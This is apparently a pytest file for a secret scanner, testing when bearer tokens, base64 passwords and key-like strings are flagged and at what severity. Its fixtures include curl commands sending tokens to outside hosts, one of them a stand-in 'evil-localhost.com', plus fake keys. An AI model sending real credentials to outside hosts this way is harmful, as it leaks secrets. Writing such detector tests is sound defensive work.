"""A generic key in an Authorization header sent to this machine is low; sent anywhere else, or a
provider's key sent to localhost, it keeps its severity."""

from __future__ import annotations

from pathlib import Path

from tests.secrets.helpers import fake, scan_text


def severities(tmp_path: Path, text: str) -> list[tuple[int, str, str]]:
    return sorted((f.line, f.rule_id, f.severity.value) for f in scan_text(tmp_path, "README.md", text))


def test_a_generic_key_sent_to_localhost_is_low(tmp_path: Path) -> None:
    text = (
        'curl http://localhost:8081/models/m -H "Authorization: Bearer I_J_ItMb"\n'
        'curl localhost:8081/token?type=management -H "Authorization: Bearer m4M-5IBY"\n'
        'curl http://127.0.0.1:8080/predictions/m -H "Authorization: Bearer FINhR1fj"\n'
    )
    assert severities(tmp_path, text) == [(1, "MLS223", "low"), (2, "MLS223", "low"), (3, "MLS223", "low")]


def test_a_key_sent_elsewhere_or_a_providers_key_keeps_its_severity(tmp_path: Path) -> None:
    openai = fake("sk-proj-", 48, seed=7)
    text = (
        'curl https://api.example.org/v1 -H "Authorization: Bearer Zx8kQ2vLm9PqR4tW"\n'
        'curl http://evil-localhost.com/x -H "Authorization: Bearer Zx8kQ2vLm9PqR4tQ"\n'
        f'curl http://localhost:8000/v1/chat -H "Authorization: Bearer {openai}"\n'
        'curl -x http://localhost:3128 -H "Authorization: Bearer 7f3a9c2e5b8d41f09a6e3c7b" https://api.acme.io/v1\n'
        'curl -H "Origin: http://localhost:3000" -H "Authorization: Bearer 7f3a9c2e5b8d41f09a6e3c7c" api.acme.io/v1\n'
    )
    found = severities(tmp_path, text)
    assert (1, "MLS223", "medium") in found and (2, "MLS223", "medium") in found
    assert (4, "MLS223", "medium") in found and (5, "MLS223", "medium") in found  # a proxy or a header on localhost
    assert [s for line, _, s in found if line == 3] and all(s != "low" for line, _, s in found if line == 3)


def test_go_sum_and_version_strings_are_not_secrets_but_a_key_beside_the_same_name_is(tmp_path: Path) -> None:
    go_sum = (
        "cloud.google.com/go/apikeys v0.4.0/go.mod h1:XATS/yqZbaBK0HOssf+ALHp8jAlNHUgyfprvNcBIszU=\n"
        "github.com/acme/tokens v0.0.0-20230711153332-06a737ee72cb h1:abcDEF123ghiJKL456mnoPQR789stuVWX012yzABCDE=\n"
    )
    assert scan_text(tmp_path, "go.sum", go_sum) == []
    found = scan_text(tmp_path, "settings.env", "APIKEYS=Zq9xK3pLm8vN2rT5wY7bQ4\n")
    assert [f.rule_id for f in found] == ["MLS223"]


def test_base64_of_a_placeholder_is_not_a_secret_but_base64_of_a_password_is(tmp_path: Path) -> None:
    text = (
        "AWS_SECRET_ACCESS_KEY: VEhFUEFTU1dPUkQ=\n"  # THEPASSWORD
        "AWS_SECRET_ACCESS_KEY: bWluaW8xMjM=\n"  # minio123
        "password: WGs4I21QcTMkelI3dkwy\n"  # Xk8#mPq3$zR7vL2
    )
    assert [f.line for f in scan_text(tmp_path, "secret.yaml", text)] == [3]


def test_a_pascal_case_identifier_under_a_weak_name_is_not_a_secret(tmp_path: Path) -> None:
    tags = 'Tags=[{"Key": "AmazonDataZoneDomain", "Value": domain_id}]\n'
    assert scan_text(tmp_path, "setup.py", tags) == []
    # Look-alike: random letters in mixed case under the same name are still judged.
    assert [f.rule_id for f in scan_text(tmp_path, "setup.py", 'creds = {"Key": "Zq9xK3pLm8vN2rT5wY7bQ4"}\n')] == [
        "MLS223"
    ]
